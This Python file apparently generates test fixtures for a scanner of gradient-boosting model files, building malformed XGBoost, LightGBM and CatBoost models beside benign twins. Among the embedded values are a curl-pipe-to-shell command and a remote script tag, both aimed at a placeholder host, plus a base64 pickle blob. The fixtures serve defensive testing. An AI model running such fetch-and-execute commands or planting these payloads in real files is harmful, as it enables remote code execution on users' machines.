"""Models of XGBoost, LightGBM and CatBoost that lead outside of themselves, and benign twins."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator, Mapping, Sequence

PICKLED_LIST = b"\x80\x04]\x94(K\x01K\x02e."
Tree = dict[str, object]


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    yield from _xgboost_json()
    yield from _xgboost_ubjson()
    yield from _xgboost_binary()
    yield from _lightgbm()
    yield from _catboost()


# XGBoost.


def tree(**changes: object) -> Tree:
    """A root with two leaves."""
    return {
        "tree_param": {
            "num_nodes": "3",
            "num_feature": "2",
            "num_deleted": "0",
            "size_leaf_vector": "1",
        },
        "id": 0,
        "left_children": [1, -1, -1],
        "right_children": [2, -1, -1],
        "parents": [2147483647, 0, 0],
        "split_indices": [1, 0, 0],
        "split_conditions": [0.5, -0.25, 0.25],
        "base_weights": [0.0, -0.25, 0.25],
        **changes,
    }


def model(
    *trees: Tree, attributes: Mapping[str, str] | None = None, **changes: object
) -> dict[str, object]:
    """A gbtree model of two features."""
    inside: dict[str, object] = {
        "gbtree_model_param": {"num_trees": str(len(trees)), "num_parallel_tree": "1"},
        "trees": list(trees),
        "tree_info": [0] * len(trees),
        **changes,
    }
    learner = {
        "attributes": dict(attributes or {}),
        "feature_names": ["age", "weight"],
        "gradient_booster": {"model": inside, "name": "gbtree"},
        "learner_model_param": {
            "base_score": "5E-1",
            "num_class": "0",
            "num_feature": "2",
            "num_target": "1",
        },
        "objective": {"name": "binary:logistic"},
    }
    return {"learner": learner, "version": [3, 0, 0]}


def _text(value: object) -> bytes:
    return json.dumps(value).encode()


def _xgboost_json() -> Iterator[tuple[str, bytes]]:
    yield "boosters/xgboost.twin.json", _text(model(tree()))
    yield "boosters/xgboost-child.json", _text(model(tree(left_children=[1_000_000, -1, -1])))
    yield "boosters/xgboost-feature.json", _text(model(tree(split_indices=[4_000, 0, 0])))
    short = tree(tree_param={"num_nodes": "1000000"})
    yield "boosters/xgboost-short.json", _text(model(short))
    circle = tree(left_children=[1, 0, -1], right_children=[2, 2, -1])
    yield "boosters/xgboost-cycle.json", _text(model(tree(), circle))
    yield "boosters/xgboost-output.json", _text(model(tree(), tree_info=[7]))
    absurd = model(tree())
    absurd["learner"]["learner_model_param"]["num_feature"] = "4294967295"  # type: ignore[index]
    yield "boosters/xgboost-absurd.json", _text(absurd)
    yield "boosters/xgboost-parent.json", _text(model(tree(parents=[2147483647, 2, 0])))
    pickled = base64.b64encode(PICKLED_LIST).decode()
    yield "boosters/xgboost-pickle.json", _text(model(tree(), attributes={"note": pickled}))
    command = "curl -s https://example.invalid/marker.sh | sh"
    yield "boosters/xgboost-command.json", _text(model(tree(), attributes={"note": command}))
    own = model(tree(), attributes={"note": "see https://example.invalid/ and C:\\models"})
    own["learner"]["objective"] = {"name": "reg:own"}  # type: ignore[index]
    yield "boosters/xgboost-objective.twin.json", _text(own)


def ubjson(value: object) -> bytes:
    """Universal Binary JSON as XGBoost writes it: lists of numbers with a type and a count."""
    if isinstance(value, Mapping):
        inside = b"".join(_counted(key) + ubjson(one) for key, one in value.items())
        return b"{" + inside + b"}"
    if isinstance(value, str):
        return b"S" + _counted(value)
    if isinstance(value, list):
        return _ubjson_list(value)
    if isinstance(value, float):
        return b"d" + struct.pack(">f", value)
    return b"L" + struct.pack(">q", value)


def _counted(text: str) -> bytes:
    return b"L" + struct.pack(">q", len(text.encode())) + text.encode()


def _ubjson_list(value: Sequence[object]) -> bytes:
    count = b"#L" + struct.pack(">q", len(value))
    if value and all(type(one) is int for one in value):
        return b"[$l" + count + struct.pack(f">{len(value)}i", *value)
    if value and all(type(one) is float for one in value):
        return b"[$d" + count + struct.pack(f">{len(value)}f", *value)
    return b"[" + count + b"".join(ubjson(one) for one in value)


def _xgboost_ubjson() -> Iterator[tuple[str, bytes]]:
    yield "boosters/xgboost.twin.ubj", ubjson(model(tree()))
    outside = tree(right_children=[-7, -1, -1])
    yield "boosters/xgboost-child.ubj", ubjson(model(outside))
    infinite = tree(split_conditions=[float("nan"), 0.5, 0.5])
    yield "boosters/xgboost-nan.ubj", ubjson(model(infinite))
    vectors = tree(
        tree_param={"num_nodes": "3", "size_leaf_vector": "2"},
        right_children=[2, 0, 9],
        leaf_weights=[0.5, 0.5, 0.25, 0.25],
    )
    yield "boosters/xgboost-vector.ubj", ubjson(model(vectors))
    yield "boosters/xgboost-cut.ubj", ubjson(model(tree()))[:-40]
    yield "boosters/ubjson.twin.ubj", ubjson({"name": "no model", "sizes": [1, 2, 3]})


def xgboost_binary(nodes: Sequence[tuple[int, int, int, int]], *, magic: bytes = b"binf") -> bytes:
    """A gbtree of one tree; a node is (parent, left, right, feature)."""
    out = magic + struct.pack("<fIiiiIIi104x", 0.5, 2, 0, 0, 0, 2, 1, 1)
    for name in (b"binary:logistic", b"gbtree"):
        out += struct.pack("<Q", len(name)) + name
    out += struct.pack("<iiiiqii128x", 1, 1, 0, 0, 0, 0, 0)
    out += struct.pack("<iiiiii124x", 1, len(nodes), 0, 0, 2, 0)
    out += b"".join(struct.pack("<iiiIf", *node, 0.5) for node in nodes)
    return out + bytes(16 * len(nodes)) + struct.pack("<i", 0)


def _xgboost_binary() -> Iterator[tuple[str, bytes]]:
    left_bit = -(2**31)
    good = [(-1, 1, 2, 1 | 1 << 31), (left_bit, -1, -1, 0), (0, -1, -1, 0)]
    yield "boosters/xgboost.twin.model", xgboost_binary(good)
    yield "boosters/xgboost-old.twin.model", xgboost_binary(good, magic=b"")
    bad = [(-1, 1, 2_000_000, 1), *good[1:]]
    yield "boosters/xgboost-child.model", xgboost_binary(bad)


# LightGBM.


def lightgbm(changes: Mapping[str, str] | None = None, *, sizes: int | None = None) -> bytes:
    """One tree of three leaves, over two features."""
    fields = {
        "num_leaves": "3",
        "num_cat": "0",
        "split_feature": "0 1",
        "threshold": "0.5 0.25",
        "decision_type": "2 2",
        "left_child": "1 -1",
        "right_child": "-3 -2",
        "leaf_value": "0.1 0.2 0.3",
        **(changes or {}),
    }
    one = "Tree=0\n" + "".join(f"{key}={value}\n" for key, value in fields.items()) + "shrinkage=1\n\n\n"
    head = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\n"
    head += "objective=binary sigmoid:1\nfeature_names=age weight\nfeature_infos=[0:1] [0:1]\n"
    head += f"tree_sizes={len(one) if sizes is None else sizes}\n\n"
    return (head + one + "end of trees\n\nparameters:\n[boosting: gbdt]\nend of parameters\n").encode()


def _lightgbm() -> Iterator[tuple[str, bytes]]:
    yield "boosters/lightgbm.twin.txt", lightgbm()
    yield "boosters/lightgbm-child.txt", lightgbm({"left_child": "500 -1"})
    yield "boosters/lightgbm-leaf.txt", lightgbm({"right_child": "-900 -2"})
    yield "boosters/lightgbm-short.txt", lightgbm({"num_leaves": "200000"})
    yield "boosters/lightgbm-negative.txt", lightgbm({"num_leaves": "-5"})
    yield "boosters/lightgbm-cycle.txt", lightgbm({"left_child": "0 -1"})
    yield "boosters/lightgbm-feature.txt", lightgbm({"split_feature": "0 77"})
    sets = {"num_cat": "1", "decision_type": "1 2", "threshold": "0 0.25"}
    good = {**sets, "cat_boundaries": "0 1", "cat_threshold": "5"}
    yield "boosters/lightgbm-sets.twin.txt", lightgbm(good)
    bad = {**sets, "cat_boundaries": "0 90000", "cat_threshold": "5"}
    yield "boosters/lightgbm-sets.txt", lightgbm(bad)
    yield "boosters/lightgbm-sizes.txt", lightgbm(sizes=1_000_000)
    yield "boosters/lightgbm-nan.txt", lightgbm({"leaf_value": "nan 0.2 0.3"})


# CatBoost.


class FlatBuilder:
    """FlatBuffers from front to back: tables first, what they point to behind them."""

    def __init__(self) -> None:
        self.out = bytearray(4)
        self.later: list[tuple[int, object]] = []

    def finish(self, root: Mapping[int, object]) -> bytes:
        self.out[0:4] = struct.pack("<I", self._table(root))
        while self.later:
            place, value = self.later.pop(0)
            at = self._value(value)
            self.out[place : place + 4] = struct.pack("<I", at - place)
        return bytes(self.out)

    def _align(self, size: int) -> None:
        self.out += bytes(-len(self.out) % size)

    def _value(self, value: object) -> int:
        self._align(8)
        if isinstance(value, Mapping):
            return self._table(value)
        if isinstance(value, str):
            return self._bytes(len(value.encode()), value.encode() + b"\0")
        if isinstance(value, bytes):
            return self._bytes(len(value) // 8, value, padding=4)
        assert isinstance(value, list)
        if value and isinstance(value[0], int):
            return self._bytes(len(value), struct.pack(f"<{len(value)}i", *value))
        at = self._bytes(len(value), bytes(4 * len(value)))
        self.later += [(at + 4 + 4 * index, one) for index, one in enumerate(value)]
        return at

    def _bytes(self, count: int, data: bytes, *, padding: int = 0) -> int:
        self.out += bytes(padding)
        at = len(self.out)
        self.out += struct.pack("<I", count) + data
        return at

    def _table(self, fields: Mapping[int, object]) -> int:
        slots = max(fields, default=-1) + 1
        vtable = len(self.out)
        offsets = [4 + 4 * list(fields).index(index) if index in fields else 0 for index in range(slots)]
        size = 4 + 4 * len(fields)
        self.out += struct.pack(f"<HH{slots}H", 4 + 2 * slots, size, *offsets)
        self._align(4)
        at = len(self.out)
        self.out += struct.pack("<i", at - vtable) + bytes(4 * len(fields))
        for index, value in fields.items():
            place = at + offsets[index]
            if isinstance(value, int):
                self.out[place : place + 4] = struct.pack("<i", value)
            else:
                self.later.append((place, value))
        return at


def catboost(note: str = "", **changes: object) -> bytes:
    """One symmetric tree of depth 2 over one feature with three borders."""
    places = {"splits": 1, "sizes": 2, "starts": 3, "leaves": 8}
    trees: dict[int, object] = {
        0: 1,
        1: [0, 2],
        2: [2],
        3: [0],
        5: [{1: 0, 3: [1, 2, 3], 4: "age"}],
        8: struct.pack("<4d", 0.1, 0.2, 0.3, 0.4),
    }
    trees |= {places[name]: value for name, value in changes.items()}
    info = [{0: "model_guid", 1: "weighbridge"}, {0: "note", 1: note or "none"}]
    core = FlatBuilder().finish({0: "FlabuffersModel_v1", 1: trees, 2: info})
    return b"CBM1" + struct.pack("<I", len(core)) + core


def _catboost() -> Iterator[tuple[str, bytes]]:
    yield "boosters/catboost.twin.cbm", catboost()
    yield "boosters/catboost-split.cbm", catboost(splits=[0, 900])
    yield "boosters/catboost-start.cbm", catboost(starts=[70_000])
    yield "boosters/catboost-depth.cbm", catboost(sizes=[64], splits=[0] * 64)
    yield "boosters/catboost-leaves.cbm", catboost(leaves=struct.pack("<d", 0.1))
    yield (
        "boosters/catboost-note.cbm",
        catboost("<script src='https://example.invalid/marker.js'></script>"),
    )
    yield "boosters/catboost-cut.cbm", catboost()[:-30]
    yield "boosters/catboost-offset.cbm", catboost()[:8] + struct.pack("<I", 2**31) + catboost()[12:]
    split = {"float_feature_index": 0, "split_index": 1, "split_type": "FloatFeature", "border": 0.5}
    document = {
        "model_info": {"model_guid": "weighbridge"},
        "features_info": {"float_features": [{"borders": [0.25, 0.5], "feature_id": "age"}]},
        "oblivious_trees": [{"leaf_values": [0.1, 0.2], "splits": [split]}],
    }
    yield "boosters/catboost.twin.json", _text(document)
    document["oblivious_trees"] = [{"leaf_values": [0.1], "splits": [{**split, "split_index": 40}]}]
    yield "boosters/catboost-split.json", _text(document)
